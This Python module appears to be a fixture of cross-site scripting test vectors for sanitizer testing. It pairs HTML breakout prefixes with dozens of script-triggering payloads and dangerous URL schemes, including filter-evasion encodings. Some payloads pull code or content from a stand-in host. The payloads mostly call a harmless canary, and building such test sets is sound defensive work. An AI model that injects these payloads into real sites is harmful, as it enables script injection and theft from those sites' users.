"""Texts that would run as script somewhere: ways out of where a text stands, times ways to call a function.

The forms are those of public lists of such texts; the wording is ours. Each calls `hit()` or asks another host.
"""

from __future__ import annotations

import itertools

ELSEWHERE = "https://elsewhere.example/"

WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>", "</template>",
    "</option></select>", '\\"\'>', "&quot;>", "</a>", "{{", "`>",
)  # fmt: skip

CALLS = (
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT >", "<scr<script>ipt>hit()</script>",
    "<script src=data:,hit()></script>", "<img src=x onerror=hit()>", "<IMG SRC=x OnErRoR=hit()>",
    "<img/src='x'/onerror='hit()'>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<body onload=hit()>", "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>", "<audio src=x onerror=hit()>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<iframe src=javascript:parent.hit()>", "<object data=javascript:hit()>", "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>", "<form action=javascript:hit()><button>x",
    "<math><mi xlink:href=javascript:hit()>x", "<marquee onstart=hit()>x</marquee>",
    "<style>@import 'https://elsewhere.example/';</style>", "<link rel=stylesheet href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>", "<base href=https://elsewhere.example/>",
    "<img src=https://elsewhere.example/x.png>", "<script>import('https://elsewhere.example/')</script>", "${hit()}",
    "{{constructor.constructor('hit()')()}}", "javascript:hit()//", '" onmouseover=hit() autofocus onfocus=hit() x="',
    "' onfocus=hit() autofocus x='", "<x tabindex=1 onfocus=hit() autofocus>", "&lt;script&gt;hit()&lt;/script&gt;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E", "＜script＞hit()＜/script＞",
)  # fmt: skip

VECTORS = tuple(f"{out}{call}" for out, call in itertools.product(WAYS_OUT, CALLS))

LINKS = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", " javascript:hit()",
    "data:text/html,<script>hit()</script>", "vbscript:hit()", "javascript&colon;hit()", "//elsewhere.example/x",
    "\\\\elsewhere.example",
)  # fmt: skip
"""Addresses that do what no link should."""
